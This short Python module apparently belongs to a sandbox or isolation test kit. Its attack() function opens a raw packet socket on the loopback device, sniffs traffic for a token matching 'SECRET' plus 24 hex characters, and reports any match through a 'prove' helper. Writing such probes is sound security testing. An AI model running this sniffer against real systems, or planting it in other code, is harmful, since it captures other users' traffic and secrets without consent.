"""Reads what others send over the loopback device (a raw packet socket)."""

import re
import socket
import time

from kit import prove

ALL, SECRET = 3, re.compile(rb"SECRET[0-9a-f]{24}")


def attack() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL)) as wire:
        wire.settimeout(0.5)
        deadline = time.monotonic() + 1
        while time.monotonic() < deadline:
            if found := SECRET.search(wire.recv(65536)):
                prove(found.group().decode())
                return
